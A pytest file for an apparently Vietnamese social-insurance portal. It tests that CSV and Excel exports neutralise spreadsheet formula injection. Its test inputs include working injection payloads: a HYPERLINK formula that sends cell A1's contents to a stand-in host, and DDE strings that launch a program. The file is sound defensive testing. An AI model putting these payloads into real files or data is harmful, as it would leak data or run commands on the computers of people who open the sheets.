"""Formula injection: a text that a spreadsheet would run (=, +, -, @, tab, CR first) is written with a
leading apostrophe in every Excel and csv file the portal produces, through one helper
(`bhxh_portal.exports.safe_cell`); numbers stay numbers; our own files import back unchanged."""

import csv
import importlib
import io
import pkgutil
from pathlib import Path

import pytest
from django.core.management import call_command
from import_export import resources
from openpyxl import load_workbook

from bhxh_portal.exports import SafeExportMixin, safe_cell, unescape_cell
from bhxh_portal.imports import load_dataset, run_resource_import
from units.models import Role, Unit
from tests.factories import make_collection_agent, make_member, make_target, make_unit

ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_like_text_gets_an_apostrophe_and_comes_back(text):
    assert safe_cell(text) == "'" + text
    assert unescape_cell(safe_cell(text)) == text


@pytest.mark.parametrize("value", [-5, -1.5, 0, None, "-5", "-1.234,5", "+84", "-0,25", "Xã =Hải Dương", "", "'quote"])
def test_numbers_and_ordinary_text_are_left_alone(value):
    assert safe_cell(value) == value


def project_resources():
    """Every django-import-export resource defined in the project's apps (imports every module first)."""
    for app in ("agents", "bhxh_portal", "campaigns", "reports", "targets", "results", "units", "jobs"):
        package = importlib.import_module(app)
        for module in pkgutil.iter_modules(package.__path__):
            if "resource" in module.name:
                importlib.import_module(f"{app}.{module.name}")
    found, todo = [], list(resources.Resource.__subclasses__())
    while todo:
        cls = todo.pop()
        todo.extend(cls.__subclasses__())
        if cls.__module__.split(".")[0] in {"agents", "bhxh_portal", "campaigns", "reports", "targets", "results", "units", "jobs"}:
            found.append(cls)
    return found


def test_every_resource_of_the_project_escapes_its_exports():
    found = project_resources()
    assert {"UnitResource", "TargetResource", "DemographicsResource", "ResultResource", "ParticipantResource",
            "AgentResource"} <= {cls.__name__ for cls in found}
    assert [cls.__name__ for cls in found if not issubclass(cls, SafeExportMixin)] == []


@pytest.fixture
def hostile_tree(db):
    province = make_unit("Tỉnh Thử", level_code="tinh", code="01")
    district = make_unit(HOSTILE[0], level_code="huyen", parent=province, code="001")
    commune = make_unit("-Xã @SUM(1)", level_code="xa", parent=district, code="00001")
    return province, district, commune


def test_units_export_escapes_names_in_csv_and_xlsx_and_imports_back_unchanged(hostile_tree, tmp_path):
    call_command("export_data", "units", str(tmp_path / "xuat.csv"))
    call_command("export_data", "units", str(tmp_path / "xuat.xlsx"))
    rows = list(csv.reader(io.StringIO((tmp_path / "xuat.csv").read_text(encoding="utf-8-sig"))))
    names = {row[0]: row[1] for row in rows[1:]}
    assert names["001"] == "'" + HOSTILE[0]
    assert names["00001"] == "'-Xã @SUM(1)"
    sheet = load_workbook(tmp_path / "xuat.xlsx").active
    cells = {row[0].value: row[1] for row in sheet.iter_rows(min_row=2)}
    assert cells["001"].data_type == "s" and cells["001"].value == "'" + HOSTILE[0]  # text, not a formula
    from units.resources import UnitResource

    report = run_resource_import(UnitResource(), load_dataset(tmp_path / "xuat.xlsx"), filename="xuat.xlsx")
    assert report.ok, report.messages()
    assert Unit.objects.get(code="001").name == HOSTILE[0]
    assert Unit.objects.get(code="00001").name == "-Xã @SUM(1)"


def test_targets_export_escapes_text_and_keeps_numbers(client, hostile_tree):
    province, district, commune = hostile_tree
    make_target(commune, "bhyt", year=2024, count=1500, decision="Quyết định 324/QĐ-UBND")
    client.force_login(make_member(district, Role.BHXH_STAFF))
    response = client.get(f"/don-vi/{district.pk}/chi-tieu/2024/xuat.xlsx")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert not [v for v in values if isinstance(v, str) and v.startswith(("=", "+", "-", "@"))], values
    assert "'-Xã @SUM(1)" in values
    text = client.get(f"/don-vi/{district.pk}/chi-tieu/2024/xuat.csv").content.decode("utf-8-sig")
    assert "'-Xã @SUM(1)" in text and ("1.500" in text or "1500" in text)


def test_results_export_escapes_agent_and_unit_names_and_keeps_figures(client, hostile_tree):
    from units.periods import Period
    from results import services as services
    from targets.models import Indicator

    province, district, commune = hostile_tree
    agent = make_collection_agent(commune, name="@Đại lý =1+1")
    services.result_save(unit=commune, indicator=Indicator.objects.get(code="bhyt"), month=Period.month(2024, 5),
                         participants=1234, agent=agent)
    client.force_login(make_member(district, Role.BHXH_STAFF))
    text = client.get(f"/don-vi/{district.pk}/ket-qua/2024-05/xuat.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    flat = [cell for row in rows[1:] for cell in row]
    assert "'@Đại lý =1+1" in flat
    assert not [cell for cell in flat if cell.startswith(("=", "+", "@"))]
    sheet = load_workbook(io.BytesIO(client.get(f"/don-vi/{district.pk}/ket-qua/2024-05/xuat.xlsx").content)).active
    values = [cell.value for row in sheet.iter_rows(min_row=2) for cell in row]
    assert "'@Đại lý =1+1" in values
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_participant_import_error_file_escapes_what_the_upload_held(db, django_capture_on_commit_callbacks):
    from agents.importers import participant_import_start
    from tests.agents.test_import_participants import person, xlsx

    province = make_unit("Tỉnh Thử", level_code="tinh", code="01")
    district = make_unit("Huyện Một", level_code="huyen", parent=province, code="001")
    commune = make_unit("Xã 1", level_code="xa", parent=district, code="00001")
    make_unit("Thôn 1.1", level_code="thon", parent=commune, code="X1-T1")
    staff = make_member(district, Role.BHXH_STAFF)
    # (a cell starting with = would be a formula in the upload, which the import refuses as a whole)
    bad = person(name="@HYPERLINK(\"http://x\")", code="0199999999", cccd=None, income=-500_000)
    with django_capture_on_commit_callbacks(execute=True):
        job = participant_import_start(user=staff, unit=district, filename="ds.xlsx", data=xlsx([bad]))
    job.refresh_from_db()
    assert job.result["invalid"] == 1
    sheet = load_workbook(job.output_file.open("rb")).active
    rows = list(sheet.iter_rows(values_only=True))
    assert "'@HYPERLINK(\"http://x\")" in rows[-1]
    assert -500_000 in rows[-1]  # a negative number stays a number
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_programme_list_export_escapes_names(db):
    import datetime

    from campaigns.programmes.importers import export_beneficiary_list
    from campaigns.models import BeneficiaryList
    from tests.campaigns.test_programmes import HEADERS_01, import_soldiers
    from campaigns.programmes.demo import load_programmes_demo
    from campaigns.models import SupportProgramme

    province = make_unit("Tỉnh Bắc Ninh", level_code="tinh", code="27")
    district = make_unit("Huyện Yên Phong", level_code="huyen", parent=province, code="BN-YP")
    make_unit("Xã Đông Phong", level_code="xa", parent=district, code="BN-YP01")
    load_programmes_demo()
    programme = SupportProgramme.objects.get(province=province)
    staff = make_member(district, Role.BHXH_STAFF)
    line = [1, "+Nguyễn @Văn", "12/05/1960", "Nam", "027060000001", "", "BN-YP01", "@Đông Phong", "15/03/1979",
            "20/06/1982", "-ghi chú"]
    report = import_soldiers(programme, district, staff, [line], received_on=datetime.date(2024, 8, 29))
    assert report.ok, report.messages()
    assert len(HEADERS_01) == len(line)
    sheet = load_workbook(io.BytesIO(export_beneficiary_list(BeneficiaryList.objects.get()))).active
    values = list(sheet.iter_rows(min_row=2, values_only=True))[0]
    assert "'+Nguyễn @Văn" in values and "'@Đông Phong" in values and "'-ghi chú" in values, values


def test_admin_export_of_units_escapes_names(admin_client, hostile_tree):
    page = admin_client.get("/quan-tri/units/unit/export/")
    assert page.status_code == 200
    form = page.context["form"]
    data = {"format": [v for v, label in form.fields["format"].choices if label == "csv"][0]}
    data.update({name: "on" for name in form.fields if name.startswith("unitresource_")})
    if "resource" in form.fields:
        data["resource"] = form.fields["resource"].choices[0][0]
    response = admin_client.post("/quan-tri/units/unit/export/", data)
    assert response.status_code == 200, response.content[:500]
    text = response.content.decode("utf-8-sig")
    assert "'" + HOSTILE[0].replace('"', '""') in text
    assert "'-Xã @SUM(1)" in text


def test_coverage_workbook_escapes_the_unit_name_in_its_subtitle_and_keeps_numbers():
    from fractions import Fraction

    from reports.render.xlsx import as_xlsx
    from reports.tables.base import Column, Row, Table

    table = Table(key="bhyt", title="Bảng BHYT", columns=[
        Column("unit", "Xã, phường", "B", kind="text"), Column("remaining", "Còn phải vận động", "7"),
        Column("coverage", "Tỷ lệ", "3=2/1", kind="percent")],
        rows=[Row({"unit": "-Xã @SUM(1)", "remaining": -75, "coverage": Fraction(9598, 100)})])
    sheet = load_workbook(io.BytesIO(as_xlsx(table, unit_name="=HYPERLINK(\"http://x\")"))).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert all(cell.data_type != "f" for cell in cells)
    assert sheet["A2"].value.startswith("'=HYPERLINK")
    values = [cell.value for cell in cells]
    assert "'-Xã @SUM(1)" in values and -75 in values  # the negative figure is still a number
